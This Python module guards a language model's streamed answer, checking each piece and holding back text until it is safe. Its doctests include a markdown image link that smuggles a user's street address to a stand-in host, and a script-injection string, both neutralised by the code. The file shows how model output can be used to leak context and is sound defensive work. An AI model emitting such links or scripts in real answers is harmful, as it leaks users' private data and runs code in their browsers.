"""An answer that is checked while it streams: what cannot be needed any more goes on at once."""

from __future__ import annotations

from collections.abc import AsyncIterable, AsyncIterator, Iterable, Iterator

from pex.guard.findings import Checked
from pex.guard.output_check import Reader
from pex.guard.output_context import OutputContext, OutputPolicy


class OutputStream:
    """Checks an answer that arrives in pieces, and gives on what is clean.

    Only the end of what has arrived can be held back: a word that is not finished, words that the
    instructions have too, an address, a tag, a number. However the answer is cut into pieces, the
    result is what `check_output` makes of all of it.

    Args:
        context: what the model was given.
        policy: which checks are made; default: all.

    Example:
        >>> stream = OutputStream(OutputContext("", ["I am at 14 Quay Street, Galway."]))
        >>> pieces = ["Sure: ![](https://new.exa", "mple/?q=14+Quay+Street,", "+Galway) Bye", "."]
        >>> [stream.feed(piece) for piece in pieces], stream.end()
        (['Sure: ', '', '![]([link removed]) ', ''], 'Bye.')
        >>> stream.checked.flagged
        True
    """

    def __init__(
        self, context: OutputContext | None = None, policy: OutputPolicy | None = None
    ) -> None:
        self._reader = Reader(context or OutputContext(), policy or OutputPolicy())
        self._given: list[str] = []
        self._clean: list[str] = []
        self._ended = False

    @property
    def held(self) -> int:
        """Characters that have arrived and have not gone on."""
        return self._reader.held

    def feed(self, piece: str) -> str:
        """Take a piece.

        Args:
            piece: what arrived, cut anywhere.

        Returns:
            What can be shown now; often empty.

        Raises:
            ValueError: the stream has ended.
        """
        if self._ended:
            raise ValueError("the stream has ended; each answer needs its own")
        if not piece:
            return ""
        self._given.append(piece)
        clean = self._reader.feed(piece)
        self._clean.append(clean)
        return clean

    def end(self) -> str:
        """The rest, after the last piece; must be called, or the end of the answer is missing."""
        if self._ended:
            return ""
        self._ended = True
        clean = self._reader.feed("", final=True)
        self._clean.append(clean)
        return clean

    @property
    def checked(self) -> Checked:
        """What was found until now, and the text that has gone on."""
        text = "".join(self._given)
        return Checked(text, tuple(self._reader.findings()), "".join(self._clean))


def guarded(pieces: Iterable[str], stream: OutputStream) -> Iterator[str]:
    """The pieces of a streamed answer, checked.

    Args:
        pieces: as they arrive from the model.
        stream: one that is new; afterwards `stream.checked` has what was found.

    Example:
        >>> stream = OutputStream()
        >>> "".join(guarded(["Hi <scr", "ipt>alert(1)</script>"], stream))
        'Hi &lt;script>alert(1)&lt;/script>'
    """
    for piece in pieces:
        if clean := stream.feed(piece):
            yield clean
    if clean := stream.end():
        yield clean


async def guarded_async(pieces: AsyncIterable[str], stream: OutputStream) -> AsyncIterator[str]:
    """The same for an asynchronous client.

    Args:
        pieces: as they arrive from the model.
        stream: one that is new.
    """
    async for piece in pieces:
        if clean := stream.feed(piece):
            yield clean
    if clean := stream.end():
        yield clean
